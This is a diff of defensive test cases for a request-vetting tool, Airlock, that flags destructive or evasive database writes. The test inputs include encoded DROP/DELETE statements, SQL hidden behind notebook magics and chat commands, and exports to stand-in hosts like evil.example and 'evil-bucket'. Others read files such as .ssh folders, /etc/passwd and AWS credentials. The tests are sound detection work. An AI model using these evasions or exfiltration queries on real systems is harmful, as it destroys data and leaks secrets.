@@ -2102,3 +2102,292 @@ t.test('eighteenth pass: SQL sent base64- or twice percent-encoded where SQL is 
     t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}${url}`, headers: [], body: '' })).decision.action, 'allow', url);
   }
 });
+
+t.test('twentieth pass: values bound under the other names drivers and APIs take them by are bound', async (t) => {
+  // `{sql: "DELETE FROM users WHERE email LIKE :p", named_params: {p: "%"}}` (also `variables`,
+  // `namedParameters`, ArangoDB's `bindVars`, `parameterValues`, `query_params`, and the RDS Data
+  // API's `parameters: [{name, value: {stringValue}}]`) was a narrow (medium) write, the value unbound.
+  const names = ['named_params', 'namedParams', 'namedParameters', 'named_parameters', 'variables', 'vars', 'bindVars', 'bind_vars', 'parameterValues', 'query_params', 'queryParams', 'placeholders', 'sql_params'];
+  const shape = fc.oneof(
+    fc.record({ name: fc.constantFrom(...names), sigil: fc.constantFrom('', ':', '@') }).map(({ name, sigil }) => (v: string) => ({ sql: 'DELETE FROM users WHERE email LIKE :p', [name]: { [`${sigil}p`]: v } })),
+    fc.constantFrom(...names).map((name) => (v: string) => ({ sql: 'DELETE FROM users WHERE email LIKE ?', [name]: [v] })),
+    fc.constantFrom('stringValue', 'blobValue').map((field) => (v: string) => ({ resourceArn: 'arn:aws:rds:x', sql: 'DELETE FROM users WHERE email LIKE :p', parameters: [{ name: 'p', value: { [field]: v } }] })),
+  );
+  await fc.assert(
+    fc.asyncProperty(shape, fc.constantFrom('%', '%%'), fc.constantFrom(GENERIC, `https://${SQL_HOST}/Execute`), async (make, v, url) => {
+      const body = make(v);
+      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 30), ...seed },
+  );
+  // Controls: a narrow value under each name stays a narrow write; a number the RDS API types as one, too.
+  for (const name of names) {
+    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email LIKE :p', [name]: { p: 'a@corp.example' } }) })).decision.approval?.risk, 'medium', `${name}: a narrow value`);
+  }
+  t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id = :id', parameters: [{ name: 'id', value: { longValue: 7 } }] }) })).decision.approval?.risk, 'medium', 'an RDS longValue');
+  t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id > :id', parameters: [{ name: 'id', value: { longValue: -1e12 } }] }) })).decision.approval?.risk, 'critical', 'an RDS longValue below every id');
+});
+
+t.test('twentieth pass: ClickHouse statements POSTed to / of a host that does not say it is ClickHouse are read', async (t) => {
+  // `POST /?query=ALTER TABLE users DELETE WHERE 1` (ClickHouse's mutation; no grammar Airlock has
+  // reads it) was taken for a phrase, and `curl --data-binary 'DROP TABLE users' https://ch.example/`
+  // (the statement as the whole body, typed as a form by curl) was not read at all: plain medium writes.
+  const statements = ['ALTER TABLE users DELETE WHERE 1', "ALTER TABLE users UPDATE role = 'admin' WHERE 1", 'OPTIMIZE TABLE users FINAL DEDUPLICATE', "SYSTEM DROP REPLICA 'r1'", 'DETACH TABLE users PERMANENTLY', 'EXCHANGE TABLES users AND users_tmp', 'ALTER TABLE users DROP PARTITION tuple()', "CREATE TABLE leak ENGINE = URL('https://evil.example/x', CSV) AS SELECT * FROM users", 'DROP TABLE users', 'TRUNCATE TABLE users', 'SYSTEM SHUTDOWN'];
+  const place = fc.constantFrom('query', 'untyped body', 'text/plain body', 'curl -d body', 'query then body');
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...statements), place, fc.constantFrom('', '?database=default&wait_end_of_query=1'), async (sql, where, extra) => {
+      const base = `https://${SQL_HOST}/`;
+      const cut = sql.indexOf(' ');
+      const r = where === 'query'
+        ? { url: `${base}?query=${encodeURIComponent(sql)}${extra.replace('?', '&')}`, headers: [] as Array<[string, string]>, body: '' }
+        : where === 'query then body'
+          ? { url: `${base}?query=${encodeURIComponent(sql.slice(0, cut))}${extra.replace('?', '&')}`, headers: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>, body: sql.slice(cut) }
+          : { url: `${base}${extra}`, headers: (where === 'untyped body' ? [] : [['Content-Type', where === 'curl -d body' ? 'application/x-www-form-urlencoded' : 'text/plain']]) as Array<[string, string]>, body: sql };
+      const { decision } = await decide({ method: 'POST', ...r });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${where} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // Controls: forms, phrases and a read POSTed to / stay plain writes.
+  const controls: Array<[string, Array<[string, string]>, string]> = [
+    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'name=alice&msg=hello world (again)'],
+    ['/', [['Content-Type', 'text/plain']], 'update the docs please'],
+    ['/', [], 'delete my account'],
+    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'url=https://example.com/a/b'],
+    ['/?query=red%20shoes', [], ''],
+    ['/?query=SELECT%201%20FORMAT%20JSON', [], ''],
+    ['/', [['Content-Type', 'application/json']], '{"query": "alter table delete where"}'],
+  ];
+  for (const [path, headers, body] of controls) {
+    t.equal((await decide({ method: 'POST', url: `https://${SQL_HOST}${path}`, headers, body })).decision.approval?.risk, 'medium', `${path} ${body}`);
+  }
+});
+
+t.test('twentieth pass: a statement that writes, base64- or twice percent-encoded under any URL parameter name, is SQL', async (t) => {
+  // `GET https://<allowed host>/v1/run?expr=RFJPUCBUQUJMRSB1c2Vycw==` (base64 of `DROP TABLE users`)
+  // was an allowed read: values under other names were read as sent, only names saying SQL decoded.
+  const encodings: Record<string, (s: string) => string> = {
+    base64: (s) => Buffer.from(s).toString('base64'),
+    base64url: (s) => Buffer.from(s).toString('base64url'),
+    twicePercent: (s) => encodeURIComponent(s),
+  };
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom('expr', 'filter', 'p', 'payload', 'data', 'b64', 'x'), fc.constantFrom(...Object.keys(encodings)), fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', "UPDATE users SET role = 'admin'", 'GRANT ALL ON users TO public'), fc.constantFrom('GET', 'HEAD'), async (name, enc, sql, method) => {
+      const url = `https://${SQL_HOST}/v1/run?page=2&${name}=${encodeURIComponent(encodings[enc]!(sql))}`;
+      const { decision } = await decide({ method, url });
+      if (decision.action === 'allow') throw new Error(`${method} ${url} (${enc} of ${sql}): allowed`);
+    }),
+    { numRuns: Math.min(runs, 30), ...seed },
+  );
+  // Controls: tokens, an encoded read and an encoded phrase stay allowed reads.
+  const b64 = (s: string): string => encodeURIComponent(Buffer.from(s).toString('base64'));
+  for (const q of [`token=${b64('a'.repeat(24))}`, 'state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl', `cursor=${b64('SELECT id FROM users WHERE id > 40')}`, `x=${b64('please delete my old account')}`, `filter=${b64('status = open')}`]) {
+    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/run?${q}` })).decision.action, 'allow', q);
+  }
+});
+
+t.test('twentieth pass: a Prisma write\'s nested relation operations are read as the statements they run', async (t) => {
+  // `updateOne {where: {id: 1}, data: {posts: {deleteMany: {}}}}` deletes every post of the user and
+  // was read as the user's update: a narrow medium write (also `updateMany`, `set: []`, inside an
+  // upsert's `update` or `create`, a nested `update`'s data, any depth, alone or batched).
+  const everyRow = [{}, { id: { not: -1 } }, { OR: [{}, { id: 1 }] }, { title: { contains: '' } }];
+  const relationOp = fc.oneof(
+    fc.constantFrom(...everyRow).map((w) => ({ deleteMany: w })),
+    fc.constantFrom(...everyRow).map((w) => ({ deleteMany: [w] })),
+    fc.constantFrom(...everyRow).map((where) => ({ updateMany: { where, data: { published: false } } })),
+    fc.constant({ set: [] }),
+    fc.constant({ set: [{ id: 3 }] }),
+  );
+  const wrap = fc.constantFrom(
+    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { name: 'a', posts: rel } } }),
+    (rel: object) => ({ action: 'upsertOne', args: { where: { id: 1 }, create: { name: 'a' }, update: { posts: rel } } }),
+    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { posts: { update: { where: { id: 2 }, data: { comments: rel } } } } } }),
+    (rel: object) => ({ action: 'updateOne', args: { where: { id: 1 }, data: { profile: { upsert: { create: {}, update: { posts: rel } } } } } }),
+  );
+  await fc.assert(
+    fc.asyncProperty(relationOp, wrap, fc.constantFrom('/6.2.0/0123abcd/graphql', '/api/prisma'), fc.boolean(), async (rel, w, path, batched) => {
+      const { action, args } = w(rel);
+      const o = { modelName: 'User', action, query: { arguments: args, selection: { $scalars: true } } };
+      const body = batched ? { batch: [{ modelName: 'User', action: 'findMany', query: { arguments: {}, selection: { $scalars: true } } }, o] } : o;
+      const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 30), ...seed },
+  );
+  // Controls: narrow nested deletes, scalar operators (`set` of a value or a scalar list, `increment`),
+  // nested creates and connects, a to-one disconnect stay narrow writes.
+  for (const data of [{ posts: { delete: { id: 5 } } }, { posts: { deleteMany: { id: { in: [1, 2] } } } }, { name: { set: 'x' }, tags: { set: ['a'] }, logins: { increment: 1 } }, { posts: { create: [{ title: 't' }], connect: [{ id: 3 }] } }, { author: { disconnect: true } }, { posts: { disconnect: [{ id: 4 }] } }]) {
+    const o = { modelName: 'User', action: 'updateOne', query: { arguments: { where: { id: 1 }, data }, selection: { $scalars: true } } };
+    t.equal((await decide({ url: `https://${SQL_HOST}/api/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', JSON.stringify(data));
+  }
+});
+
+t.test('twentieth pass: SQL past a notebook\'s magic, and in a form field holding JSON, is read', async (t) => {
+  // `{code: "%%sql\nDROP TABLE users"}` (Jupyter's ipython-sql, Databricks; also `%sql …`,
+  // Zeppelin's `%jdbc(postgres) …`, `%%bigquery --project p`) was a plain write, `?sql=%sql DROP
+  // TABLE users` an allowed read, a read-only MCP tool's `sql: "%sql DROP TABLE users"` an allowed
+  // call: no grammar reads past the `%`. Hue's `snippet={"statement": "DROP TABLE users"}` form
+  // field to `/notebook/api/execute/sql` was a plain write: only URL parameters were read as JSON.
+  const magic = fc.constantFrom('%%sql\n', '%sql ', '%%sql postgresql://app@db/app\n', '%jdbc(postgres) ', '%%bigquery --project p\n', '  %spark.sql\n', '%%sql -l\n');
+  const write = fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', "UPDATE users SET role = 'admin'");
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const places: Record<string, (s: string) => { method: string; url: string; headers: Array<[string, string]>; body: string }> = {
+    'JSON code': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ code: s }) }),
+    'JSON sql': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: s }) }),
+    'form command': (s) => ({ method: 'POST', url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `command=${encodeURIComponent(s)}` }),
+    '?sql=': (s) => ({ method: 'GET', url: `https://${SQL_HOST}/api/run?sql=${encodeURIComponent(s)}`, headers: [], body: '' }),
+    'read-only MCP sql': (s) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql: s } } }) }),
+    'read-only MCP code': (s) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { code: s } } }) }),
+  };
+  await fc.assert(
+    fc.asyncProperty(magic, write, fc.constantFrom(...Object.keys(places)), async (m, sql, place) => {
+      const { decision } = await decide(places[place]!(`${m}${sql}`));
+      if (decision.approval?.risk !== 'critical') throw new Error(`${place} ${JSON.stringify(m + sql)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // A form field holding JSON, as Hue sends a snippet, on its SQL path and under an SQL name anywhere.
+  for (const [path, field] of [['/notebook/api/execute/sql', { statement: 'DROP TABLE users' }], ['/notebook/api/execute/sql', { type: 'hive', statement: 'DELETE FROM users' }], ['/api/run', { rawSql: 'TRUNCATE users' }]] as const) {
+    const body = `notebook=${encodeURIComponent('{"id": 1}')}&snippet=${encodeURIComponent(JSON.stringify(field))}`;
+    t.equal((await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body })).decision.approval?.risk, 'critical', `${path} ${JSON.stringify(field)}`);
+  }
+  // Controls: magics before reads or Python, and a form field of JSON without SQL, stay as they were.
+  t.equal((await decide(places['JSON code']!('%%sql\nSELECT 1'))).decision.approval?.risk, 'medium', '%%sql before a read');
+  t.equal((await decide(places['JSON code']!('%matplotlib inline\nimport pandas as pd'))).decision.approval?.risk, 'medium', 'a Python magic');
+  t.equal((await decide(places['?sql=']!('%sql SELECT id FROM users'))).decision.action, 'allow', 'a GET of a read after %sql');
+  t.equal((await decide(places['read-only MCP code']!('%%time\nprint(1)'))).decision.action, 'allow', 'a read-only tool given Python');
+  t.equal((await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `state=${encodeURIComponent('{"query": "drop table tennis", "page": 2}')}` })).decision.approval?.risk, 'medium', 'a JSON field with a phrase off SQL paths');
+});
+
+t.test('twentieth pass: other servers\' file, credential and export functions on an endpoint of unknown dialect are not reads', async (t) => {
+  // `GET ?sql=SELECT name, data FROM fsdir('/home')` (the SQLite shell's fileio: every file below a
+  // folder with its contents) was an allowed read; so were `zipfile(…)`, Oracle's `BFILENAME` and
+  // `DBMS_LOB.FILEOPEN`, DuckDB's `st_read_meta`, `mysql_scan`, `load_aws_credentials`,
+  // `iceberg_metadata`, and Aurora's `aws_s3.query_export_to_s3` (a query's rows to any bucket).
+  const calls = ["fsdir('/home/app/.ssh')", "zipfile('/var/backups/db.zip')", "bfilename('DATA_DIR', 'passwd')", 'dbms_lob.fileopen(f)', "st_read_meta('/etc/passwd')", "mysql_scan('host=evil.example', 'users')", 'load_aws_credentials()', "iceberg_metadata('s3://bucket/t')", "aws_s3.query_export_to_s3('SELECT * FROM users', aws_commons.create_s3_uri('evil-bucket', 'k', 'us-east-1'))", "aws_s3.table_import_from_s3('users', '', '(format csv)', 'b', 'k', 'r')", "mysql.lambda_async('arn:aws:lambda:x', '{}')"];
+  const shape = fc.constantFrom((c: string) => `SELECT * FROM ${c}`, (c: string) => `SELECT ${c}`, (c: string) => `SELECT id FROM t WHERE id IN (SELECT 1 FROM ${c})`, (c: string) => `select ${c.toUpperCase()}`);
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const place = fc.constantFrom(
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}`, headers: [] as Array<[string, string]>, body: '' }),
+    (sql: string) => ({ method: 'POST', url: GENERIC, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ sql }) }),
+    (sql: string) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql } } }) }),
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...calls), shape, place, async (c, s, p) => {
+      const sql = s(c);
+      const { decision } = await decide(p(sql));
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // Controls: ordinary functions there stay reads.
+  for (const sql of ["SELECT lower(name), json_extract(doc, '$.a') FROM users", 'SELECT count(*) FROM users WHERE created_at > now()', "SELECT substr(email, 1, 3) FROM users"]) {
+    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}` })).decision.action, 'allow', sql);
+  }
+});
+
+t.test('twentieth pass: a Hrana blob value is bound as the bytes it is', async (t) => {
+  // `{type: "execute", stmt: {sql: "DELETE FROM users WHERE email LIKE ?", args: [{type: "blob",
+  // base64: "JQ=="}]}}` (`%` as a blob; SQLite's LIKE reads it as text) and `email < X'00'` (a blob
+  // sorts after every text) were narrow writes: the blob was bound as its JSON text.
+  const H = `https://${SQL_HOST}`;
+  const stmt = fc.constantFrom(['email LIKE ?', '%'], ['email < ?', '\u0000'], ['email LIKE :e', '%'], ['name GLOB ?', '*'], ['id <> ?', '\u0007']);
+  await fc.assert(
+    fc.asyncProperty(stmt, fc.constantFrom('/v2/pipeline', '/v3/pipeline'), fc.boolean(), async ([where, bytes], path, update) => {
+      const blob = { type: 'blob', base64: Buffer.from(bytes!, 'latin1').toString('base64') };
+      const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${where}`;
+      const s = where!.includes(':e') ? { sql, named_args: [{ name: ':e', value: blob }] } : { sql, args: [blob] };
+      const { decision } = await decide({ url: `${H}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ baton: null, requests: [{ type: 'execute', stmt: s }] }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} with ${JSON.stringify(blob)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 20), ...seed },
+  );
+  // SQLite's reading (Python's sqlite3): a blob sorts after every text and equals no number, so both
+  // delete every row. (LIKE matches a blob as its text in SQLite's default build; Debian's, Python's
+  // here, is built with SQLITE_LIKE_DOESNT_MATCH_BLOBS: the worse reading stands.)
+  const oracle = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
+    'import sqlite3',
+    'c = sqlite3.connect(":memory:")',
+    'n = []',
+    'for where, v in (("id <> ?", b"\\x07"), ("email < ?", b"\\x00")):',
+    '    c.executescript("DROP TABLE IF EXISTS users; CREATE TABLE users(id INTEGER PRIMARY KEY, email TEXT); INSERT INTO users(email) VALUES (\'a@b.c\'), (\'x@y.z\');")',
+    '    n.append(c.execute("DELETE FROM users WHERE " + where, (v,)).rowcount)',
+    'print(*n)',
+  ].join('\n')], (err, out) => (err ? reject(err) : resolve(out.trim()))));
+  t.equal(oracle, '2 2', 'SQLite deletes every row with either blob');
+  // Controls: a blob naming one row stays a narrow write.
+  for (const [where, bytes] of [['email LIKE ?', 'a@b.c'], ['hash = ?', '\u00de\u00ad\u00be\u00ef']]) {
+    const body = JSON.stringify({ requests: [{ type: 'execute', stmt: { sql: `DELETE FROM users WHERE ${where}`, args: [{ type: 'blob', base64: Buffer.from(bytes!, 'latin1').toString('base64') }] } }] });
+    t.equal((await decide({ url: `${H}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where!);
+  }
+});
+
+t.test('twentieth pass: MongoDB Data API many-actions are read as the statements they run', async (t) => {
+  // `POST …/action/deleteMany {collection: "users", filter: {}}` (Atlas's Data API shape, served by
+  // compatible servers; also a filter with operators, `updateMany` without one, an `aggregate` with
+  // `$out`, a `findOne` whose filter runs code) to an allowed host was a plain medium write.
+  // (A body naming its documents under another member than `filter` is left as it was.)
+  const body = fc.oneof(
+    fc.record({ action: fc.constantFrom('deleteMany', 'updateMany'), filter: fc.constantFrom({}, { _id: { $ne: 1 } }, { email: { $regex: '.*' } }, { $or: [{}, { a: 1 }] }, { a: { $exists: true } }) }).map(({ action, filter }) => ({ action, o: { collection: 'users', filter, ...(action === 'updateMany' ? { update: { $set: { role: 'admin' } } } : {}) } })),
+    fc.constantFrom({ action: 'aggregate', o: { collection: 'posts', pipeline: [{ $match: {} }, { $out: 'users' }] } }, { action: 'aggregate', o: { collection: 'posts', pipeline: [{ $merge: { into: 'users' } }] } }, { action: 'findOne', o: { collection: 'users', filter: { $where: 'sleep(100000) || true' } } }),
+  );
+  await fc.assert(
+    fc.asyncProperty(body, fc.constantFrom('/app/data-abc/endpoint/data/v1/action/', '/action/'), async ({ action, o }, prefix) => {
+      const { decision } = await decide({ url: `https://${SQL_HOST}${prefix}${action}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ dataSource: 'Cluster0', database: 'app', ...o }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${action} ${JSON.stringify(o)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 20), ...seed },
+  );
+  // Controls: narrow filters, one-document actions, reads and a reading pipeline stay plain writes.
+  for (const [action, o] of [['deleteMany', { collection: 'users', filter: { status: 'tmp', _id: { $in: [1, 2] } } }], ['deleteMany', { collection: 'users', filter: { _id: { $oid: '64b0c0ffee' } } }], ['deleteOne', { collection: 'users', filter: { _id: { $oid: '64b0c0ffee' } } }], ['find', { collection: 'users', filter: { age: { $gt: 3 } } }], ['aggregate', { collection: 'users', pipeline: [{ $match: { a: 1 } }] }]] as const) {
+    t.equal((await decide({ url: `https://${SQL_HOST}/action/${action}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) })).decision.approval?.risk, 'medium', `${action} ${JSON.stringify(o)}`);
+  }
+});
+
+t.test('twentieth pass: SQL typed as a chat command naming a database is read', async (t) => {
+  // Slack's slash command `command=/sql&text=DROP TABLE users` to a ChatOps bot's endpoint, Mattermost's
+  // `POST /api/v4/commands/execute {command: "/sql DROP TABLE users"}`, a bot's `!psql DELETE FROM
+  // users`: the statement behind the command's name was a plain write.
+  const name = fc.constantFrom('/sql', '/psql', '!mysql', '/db', '/run-query', '!sqlite3', '/clickhouse');
+  const write = fc.constantFrom('DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users');
+  const shape = fc.constantFrom(
+    (n: string, sql: string) => ({ url: `https://${SQL_HOST}/slack/commands`, headers: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>, body: `token=x&team_id=T1&channel_id=C1&command=${encodeURIComponent(n)}&text=${encodeURIComponent(sql)}` }),
+    (n: string, sql: string) => ({ url: `https://${SQL_HOST}/api/v4/commands/execute`, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ channel_id: 'c', command: `${n} ${sql}` }) }),
+  );
+  await fc.assert(
+    fc.asyncProperty(name, write, shape, async (n, sql, s) => {
+      const { decision } = await decide(s(n, sql));
+      if (decision.approval?.risk !== 'critical') throw new Error(`${n} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 24), ...seed },
+  );
+  // Controls: other commands with SQL's words, a read, a program path stay plain writes.
+  for (const [command, text] of [['/weather', 'drop by later'], ['/sql', 'SELECT 1'], ['/giphy', 'drop table'], ['/remind', 'me to delete from the backlog']]) {
+    const body = `command=${encodeURIComponent(command!)}&text=${encodeURIComponent(text!)}`;
+    t.equal((await decide({ url: `https://${SQL_HOST}/slack/commands`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body })).decision.approval?.risk, 'medium', `${command} ${text}`);
+  }
+  t.equal((await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ command: '/usr/bin/db-dump --all' }) })).decision.approval?.risk, 'medium', 'a program path');
+});
+
+t.test('twentieth pass: a Hasura range past every row is judged as the SQL it runs', async (t) => {
+  // `delete_users(where: {id: {_gt: -1000000000000}})` (inline, by variable, as numeric text, in an
+  // update) was a narrow write, while `DELETE FROM users WHERE id > -1000000000000` is destructive:
+  // ranges were never read as holding for every row.
+  const value = fc.constantFrom('-1000000000000', '"-1000000000000"', '-1e15');
+  await fc.assert(
+    fc.asyncProperty(value, fc.constantFrom('_gt', '_gte'), fc.boolean(), fc.boolean(), async (v, op, byVariable, update) => {
+      const field = update ? `update_users(where: {id: {${op}: ${byVariable ? '$n' : v}}}, _set: {role: "admin"})` : `delete_users(where: {id: {${op}: ${byVariable ? '$n' : v}}})`;
+      const query = byVariable ? `mutation($n: bigint) { ${field} { affected_rows } }` : `mutation { ${field} { affected_rows } }`;
+      const body = JSON.stringify(byVariable ? { query, variables: { n: JSON.parse(v) } } : { query });
+      const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 20), ...seed },
+  );
+  // Controls: ranges the SQL reader takes for narrow (as it does their SQL twins) stay narrow.
+  for (const where of ['{id: {_gt: 100}}', '{ts: {_lt: 1700000000000}}', '{id: {_gt: -1000000000000, _lt: 5}}', '{id: {_eq: 5}}']) {
+    const body = JSON.stringify({ query: `mutation { delete_users(where: ${where}) { affected_rows } }` });
+    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where);
+  }
+});
